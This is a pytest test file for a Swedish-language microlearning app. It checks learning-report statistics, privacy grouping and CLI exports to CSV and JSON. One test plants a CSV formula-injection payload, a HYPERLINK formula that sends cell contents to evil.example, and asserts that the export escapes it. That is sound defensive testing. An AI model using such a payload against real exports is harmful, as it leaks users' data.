"""The learning figures, against a campaign played with known answers."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from app.cli import cli
from app.core.clock import FakeClock
from app.core.runtime import Runtime
from tests.flow import answer, correct_options, inbox, mail_links, run_slots
from tests.learning.test_spaced_repetition import ANNA, ERIK, start
from tests.smtp_server import SmtpSink


@pytest.fixture
def played(
    runtime: Runtime,
    client: TestClient,
    clock: FakeClock,
    smtp_sink: SmtpSink,
    editor_headers: dict,
) -> int:
    """Anna always right, Erik always wrong, Johan never answers; eight slots."""
    campaign_id = start(client, runtime, editor_headers)
    right = correct_options(runtime, "radikalisering")
    for _ in range(8):
        run_slots(runtime, clock, campaign_id, 1)
        clock.advance(minutes=30)
        for address, good in ((ANNA, True), (ERIK, False)):
            mail = inbox(smtp_sink, address)[-1]
            for key in mail_links(mail).answers:
                answer(client, mail, key, right[key] if good else (right[key] + 1) % 3)
    return campaign_id


def test_learning_figures(played: int, client: TestClient, editor_headers: dict) -> None:
    response = client.get(f"/api/v1/campaigns/{played}/learning", headers=editor_headers)
    assert response.status_code == 200, response.text
    report = response.json()
    first, review1 = report["accuracy_by_repetition"][:2]
    assert (
        first["label"] == "first answer" and first["n"] == 16 and first["rate"] == 0.5
    )  # 8 Anna + 8 Erik
    assert review1["n"] > 0 and 0 < review1["rate"] < 1
    assert sum(b["n"] for b in report["forgetting_curve"]) == report["retention"]["reviews"]
    assert report["retention"]["target"] == 0.9
    funnel = {s["step"]: s["count"] for s in report["funnel"]}
    assert funnel["sent"] >= 24 and funnel["answered"] <= funnel["viewed"] <= funnel["sent"]
    assert funnel["correct"] <= funnel["answered"]
    by_employee = report["completion_by_employee"]
    assert len(by_employee) == 3
    (department,) = report["completion_by_department"]  # 3 people < 5: merged and withheld
    assert department["label"] == "Övriga (små grupper)" and department["employees"] == 3
    assert department["hidden"] is True and department["score"] is None
    questions = {q["lesson"]: q for q in report["questions"]}
    assert questions["rad-01"]["n"] == 2 and questions["rad-01"]["first_attempt_accuracy"] == 0.5
    assert sum(questions["rad-01"]["chosen"]) == 2
    assert questions["rad-12"]["n"] == 0 and questions["rad-12"]["first_attempt_accuracy"] is None


def test_cli_prints_charts_and_writes_csv_and_json(
    played: int, runtime: Runtime, monkeypatch, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    from app.core.config import get_settings

    monkeypatch.setenv("NANOLEARN_DATABASE_URL", runtime.settings.database_url)
    monkeypatch.setenv("NANOLEARN_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("NANOLEARN_SECRET_KEY", runtime.settings.secret().decode())
    get_settings.cache_clear()
    try:
        runner = CliRunner()
        table = runner.invoke(cli, ["report", "learning", "--campaign", str(played)])
        assert table.exit_code == 0, table.output
        assert "Glömskekurvan" in table.output and "█" in table.output
        assert "Från utskick till kunskap" in table.output and "Första svaret" in table.output
        target = tmp_path / "learning.csv"
        as_csv = runner.invoke(
            cli, ["report", "learning", "-c", str(played), "-f", "csv", "-o", str(target)]
        )
        assert as_csv.exit_code == 0
        rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
        assert {r["section"] for r in rows} >= {
            "accuracy_by_repetition",
            "forgetting_curve_days",
            "funnel",
        }
        as_json = runner.invoke(cli, ["report", "learning", "-c", str(played), "-f", "json"])
        assert json.loads(as_json.stdout)["campaign_id"] == played
        missing = runner.invoke(cli, ["report", "learning", "-c", "999"])
        assert missing.exit_code == 1 and "999" in missing.output
        too_few = runner.invoke(cli, ["learning", "optimize", "--campaign", str(played)])
        assert too_few.exit_code == 0 and "behöver minst 512" in too_few.output
    finally:
        get_settings.cache_clear()


def test_learning_csv_never_writes_a_live_formula(
    played: int, runtime: Runtime, monkeypatch, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import update

    from app.core.config import get_settings
    from app.employees.models import Employee

    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
    with runtime.session_factory() as session:
        session.execute(update(Employee).values(department=hostile))
        session.commit()
    monkeypatch.setenv("NANOLEARN_DATABASE_URL", runtime.settings.database_url)
    monkeypatch.setenv("NANOLEARN_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("NANOLEARN_SECRET_KEY", runtime.settings.secret().decode())
    monkeypatch.setenv("NANOLEARN_REPORT_MIN_GROUP_SIZE", "1")  # the department is shown
    get_settings.cache_clear()
    try:
        target = tmp_path / "learning.csv"
        done = CliRunner().invoke(
            cli, ["report", "learning", "-c", str(played), "-f", "csv", "-o", str(target)]
        )
        assert done.exit_code == 0, done.output
    finally:
        get_settings.cache_clear()
    cells = [c for row in csv.reader(io.StringIO(target.read_text("utf-8"))) for c in row]
    assert "'" + hostile in cells  # shown as text, the department name intact
    assert not [
        c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and not c[1:2].isdigit())
    ]
